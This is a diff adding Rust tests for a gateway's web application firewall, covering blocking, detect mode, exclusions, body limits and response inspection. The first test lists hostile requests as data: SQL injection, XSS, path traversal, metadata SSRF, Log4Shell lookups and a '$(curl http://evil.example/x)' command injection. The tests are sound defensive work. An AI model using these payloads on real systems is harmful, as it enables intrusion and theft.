@@ -1,0 +1,259 @@
+use pipeline::tester::{PolicyUnderTest, policy};
+use serde_json::{Value, json};
+
+use super::*;
+
+fn own() -> PolicyUnderTest<Waf> {
+    policy(json!({}))
+}
+
+/// A policy whose rules are in a file of its own.
+fn with_rules(content: &str, more: &Value) -> (PolicyUnderTest<Waf>, tempfile::TempDir) {
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("rules.conf");
+    std::fs::write(&file, content).unwrap();
+    let mut settings = json!({"rules": [file.display().to_string()]});
+    for (name, value) in more.as_object().into_iter().flatten() {
+        settings[name] = value.clone();
+    }
+    (policy(settings), folder)
+}
+
+#[test]
+fn the_rules_that_come_with_the_gateway_stop_what_everybody_tries() {
+    let waf = own();
+    for target in [
+        "/?id=1%27%20or%20%271%27=%271",
+        "/?id=1%20UNION%20ALL%20SELECT%20null,null--",
+        "/?id=1%20union/**/select%20password%20from%20users",
+        "/?id=1;drop%20table%20users",
+        "/?id=1%20and%20sleep(5)",
+        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+        "/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+        "/?q=javascript:alert(1)",
+        "/?file=../../../../etc/passwd",
+        "/?file=..%2f..%2f..%2fwindows%2fwin.ini",
+        "/?file=/etc/passwd",
+        "/?file=php://filter/convert.base64-encode/resource=index.php",
+        "/?url=http://169.254.169.254/latest/meta-data/",
+        "/.git/config",
+        "/.env",
+        "/?a=b%00.png",
+        "/?a=b%0d%0aSet-Cookie:%20x=1",
+        "/?x=$%7Bjndi:ldap://evil.example/a%7D",
+        "/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D",
+        "/?host=a.example;cat%20/etc/passwd",
+        "/?host=a.example%7Cwhoami",
+        "/?host=$(curl%20http://evil.example/x)",
+    ] {
+        let refused = waf.request().to(target).answered(Response::new(Body::Empty));
+        assert!(refused.status.is_client_error(), "{target} passes");
+    }
+    for (name, value) in [
+        ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
+        ("user-agent", "() { :; }; /bin/bash -c 'id'"),
+        ("x-api-version", "${jndi:ldap://evil.example/a}"),
+        ("cookie", "lang=../../../../etc/passwd"),
+    ] {
+        waf.request().header(name, value).is_refused_with("request-blocked");
+    }
+    let multipart = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.php\"\r\n\r\nx\r\n--b--\r\n";
+    for (kind, body) in [
+        ("application/x-www-form-urlencoded", "user=admin&pass=1%27%20or%20%271%27%3D%271"),
+        ("application/json", r#"{"user": {"name": "<script>alert(1)</script>"}}"#),
+        ("application/json", r#"{"user": "#),
+        ("application/xml", "<a><b>1' or '1'='1</b></a>"),
+        ("multipart/form-data; boundary=b", multipart),
+    ] {
+        let answer =
+            waf.request().by("POST").header("content-type", kind).body(body).answered(Response::new(Body::Empty));
+        assert!(answer.status.is_client_error(), "{body} passes");
+    }
+}
+
+#[test]
+fn ordinary_requests_pass_the_rules_that_come_with_the_gateway() {
+    let waf = policy::<Waf>(json!({"mode": "detect"}));
+    for target in [
+        "/",
+        "/orders/7?page=2&sort=-created,name&filter%5Bstate%5D=open",
+        "/search?q=union+of+students+select+committee",
+        "/search?q=O%27Reilly+%26+Sons",
+        "/search?q=%22to+be+or+not+to+be%22",
+        "/search?q=5+%3E+3+and+2+%3C+4",
+        "/search?q=how+to+drop+a+table+from+a+truck",
+        "/search?q=read+/etc/passwd+in+a+book",
+        "/files/report..final.pdf?next=/home/../a",
+        "/.well-known/acme-challenge/x-y_z",
+        "/cb?redirect_uri=https%3A%2F%2Fapp.example%2Fcallback%3Fa%3Db&state=eyJhIjoxfQ%3D%3D",
+        "/geo?bbox=-1.5,2.5,3,4&at=2026-11-26T05:00:00%2B01:00",
+        "/a?price=%2410&discount=5%25&name=M%C3%BCller+%E6%9D%8E",
+        "/a?expr=a%2Bb%3Dc&math=1-1&id=7f3c1b2a-0d4e-4f6a-8b9c-0d1e2f3a4b5c",
+        "/a?mail=first.last%2Btag%40mail.example",
+        "/api;v=1/items?fields=id,name&limit=100",
+    ] {
+        let request = waf.request().to(target).header("user-agent", BROWSER).header("cookie", COOKIES);
+        assert_eq!(found(request), [0; 0], "{target}");
+    }
+    let multipart = "--b\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"me (1).jpg\"\r\nContent-Type: \
+                     image/jpeg\r\n\r\n\u{ff}\u{d8}x\r\n--b\r\nContent-Disposition: form-data; \
+                     name=\"title\"\r\n\r\nIt's me\r\n--b--\r\n";
+    for (kind, body) in [
+        ("application/x-www-form-urlencoded", "comment=I+can%27t+select+one+from+the+list%2C+can+you%3F&rating=5"),
+        ("application/json", r#"{"name": "D'Angelo; \"Ann\"", "tags": ["a&b", "<3"], "price": 9.99, "note": null}"#),
+        ("application/json", r#"{"text": "Dear all,\n\nplease bring 2 or 3 tables; cats are welcome.\n-- Bob"}"#),
+        ("application/json", "[]"),
+        ("application/xml", "<order id=\"7\"><item>Tom &amp; Jerry's</item></order>"),
+        ("application/octet-stream", "\u{0}\u{1}binary"),
+        ("multipart/form-data; boundary=b", multipart),
+    ] {
+        let request = waf.request().by("POST").header("content-type", kind).header("user-agent", BROWSER);
+        assert_eq!(found(request.body(body)), [0; 0], "{body}");
+    }
+}
+
+/// The rules that match a request, which passes.
+fn found(request: pipeline::tester::Judged<'_>) -> Vec<u64> {
+    let exchange = request.passes();
+    let Some(audited) = exchange.audited.get() else { return Vec::new() };
+    let mut told = Vec::new();
+    audited.json(&mut told);
+    let told: Value = serde_json::from_slice(&told).unwrap();
+    told["rules"].as_array().unwrap().iter().filter_map(|rule| rule["id"].as_u64()).collect()
+}
+
+const BROWSER: &str =
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
+const COOKIES: &str =
+    "_ga=GA1.2.1846563421.1700000000; session=dGhpcyBpcyBhIHNlc3Npb24=; theme=dark; consent={\"a\":1}";
+
+#[test]
+fn who_is_blocked_learns_an_id_and_nothing_of_the_rule() {
+    let answer = own().request().to("/?q=%3Cscript%3Ealert(1)%3C/script%3E").is_refused_with("request-blocked");
+
+    assert_eq!(answer.status, 403);
+    let document: Value = serde_json::from_slice(&answer.body).unwrap();
+    assert_eq!(document["id"], "00000000000000000000000000000001");
+    assert_eq!(document["status"], 403);
+    let text = String::from_utf8_lossy(&answer.body).into_owned();
+    assert!(!text.contains("77140") && !text.contains("xss") && !text.contains("script"), "{text}");
+}
+
+#[test]
+fn what_is_only_detected_passes_and_is_told() {
+    let waf = policy::<Waf>(json!({"mode": "detect"}));
+
+    let exchange = waf.request().to("/?q=%3Cscript%3E&password=1%27%20or%20%271%27=%271").passes();
+
+    let mut told = Vec::new();
+    let audited = exchange.audited.get().unwrap();
+    audited.json(&mut told);
+    let told: Value = serde_json::from_slice(&told).unwrap();
+    assert_eq!(told["action"], "detected");
+    assert_eq!(audited.reached(), Reached::Detected);
+    assert!(audited.groups().iter().any(|group| &**group == "attack-xss"), "{told}");
+    let text = told.to_string();
+    assert!(text.contains("ARGS:password") && !text.contains("1' or '1"), "{text}");
+}
+
+#[test]
+fn nothing_is_looked_at_where_it_is_off() {
+    let exchange = policy::<Waf>(json!({"mode": "off"})).request().to("/?q=%3Cscript%3E").passes();
+    assert!(exchange.audited.get().is_none());
+}
+
+#[test]
+fn what_is_excluded_passes_where_it_is_excluded() {
+    let waf = policy::<Waf>(json!({"exclusions": [
+        {"tags": ["attack-xss"], "targets": ["ARGS:html"], "operations": ["* /edit"]},
+    ]}));
+
+    waf.request().to("/edit?html=%3Cscript%3Ex%3C/script%3E").passes();
+    waf.request().to("/edit?other=%3Cscript%3Ex%3C/script%3E").is_refused_with("request-blocked");
+    waf.request().to("/show?html=%3Cscript%3Ex%3C/script%3E").is_refused_with("request-blocked");
+}
+
+#[test]
+fn a_rule_says_with_what_is_answered() {
+    let content = "SecRule ARGS:a x \"id:1,phase:1,deny,status:418\"\n\
+                   SecRule ARGS:b x \"id:2,phase:1,redirect:'https://a.example/'\"";
+    let (waf, _folder) = with_rules(content, &json!({}));
+
+    assert_eq!(waf.request().to("/?a=x").is_refused_with("request-blocked").status, 418);
+    let moved = waf.request().to("/?b=x").is_refused_with("no problem");
+    assert_eq!((moved.status.as_u16(), moved.headers["location"].as_bytes()), (302, &b"https://a.example/"[..]));
+    waf.request().to("/?c=x").passes();
+}
+
+#[test]
+fn bodies_beyond_the_limit_are_refused_or_pass_by_choice() {
+    let content = "SecRule ARGS_POST:b x \"id:1,phase:2,deny\"";
+    let send = |beyond: &str, body: &str| {
+        let (waf, folder) = with_rules(content, &json!({"request_body": {"limit": "8B", "beyond": beyond}}));
+        let request = waf.request().by("POST").header("content-type", "application/x-www-form-urlencoded");
+        let answer = request.body(body.to_owned()).answered(Response::new(Body::Empty));
+        drop(folder);
+        answer.status.as_u16()
+    };
+    assert_eq!(send("refuse", "b=x"), 403);
+    assert_eq!(send("refuse", "a=12345678"), 413);
+    assert_eq!(send("pass", "a=12345678&b=x"), 200);
+    assert_eq!(send("pass", "b=x&a=12345678"), 403);
+}
+
+#[test]
+fn long_bodies_are_judged_as_short_ones_are() {
+    let padding = "y".repeat(3 * INLINE);
+    for (last, code) in [("fine", None), ("<script>alert(1)</script>", Some("request-blocked"))] {
+        let waf = own();
+        let request = waf.request().header("content-type", "application/json").by("POST");
+        let judged = request.body(format!("{{\"a\": \"{padding}\", \"b\": \"{last}\"}}"));
+        match code {
+            None => drop(judged.passes()),
+            Some(code) => drop(judged.is_refused_with(code)),
+        }
+    }
+}
+
+#[test]
+fn answers_are_looked_at_and_blocked() {
+    let content = "SecRule RESPONSE_HEADERS:x-leak \"@rx .\" \"id:1,phase:3,deny,status:500\"\n\
+                   SecRule RESPONSE_BODY \"@rx ORA-[0-9]{5}\" \"id:2,phase:4,deny\"";
+    let (waf, _folder) = with_rules(content, &json!({"response_body": {"inspect": "on"}}));
+    let answer = |header: Option<&str>, kind: &str, body: &str| {
+        let mut response = Response::new(Body::from(Bytes::copy_from_slice(body.as_bytes())));
+        response.headers_mut().insert("content-type", HeaderValue::from_str(kind).unwrap());
+        if let Some(value) = header {
+            response.headers_mut().insert("x-leak", HeaderValue::from_str(value).unwrap());
+        }
+        waf.request().header("accept-encoding", "gzip").answered(response).status.as_u16()
+    };
+
+    assert_eq!(answer(None, "text/html", "hello"), 200);
+    assert_eq!(answer(None, "text/html", "ORA-01017: invalid"), 403);
+    assert_eq!(answer(None, "image/png", "ORA-01017: invalid"), 200);
+    assert_eq!(answer(Some("1"), "text/html", "hello"), 500);
+    assert!(!waf.request().header("accept-encoding", "gzip").passes().headers().contains_key("accept-encoding"));
+}
+
+#[test]
+fn rules_that_cannot_be_read_are_findings_of_their_own_file() {
+    let (waf, folder) = with_rules("SecRul ARGS x", &json!({}));
+    let file = folder.path().join("rules.conf");
+    assert_eq!(waf.finding(), format!("{}:1:1: there is no directive SecRul: is it SecRule?", file.display()));
+}
+
+#[test]
+fn the_rule_set_of_debian_loads_and_blocks() {
+    let rules = json!(["/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules/*.conf"]);
+    let waf = policy::<Waf>(json!({"rules": rules, "compatibility": "lenient", "paranoia": 1}));
+    let request = |target: &str| {
+        let request = waf.request().to(target).header("host", "shop.example").header("user-agent", BROWSER);
+        request.header("accept", "text/html")
+    };
+
+    request("/orders?page=2").passes();
+    request("/?id=1%27%20or%20%271%27=%271").is_refused_with("request-blocked");
+}
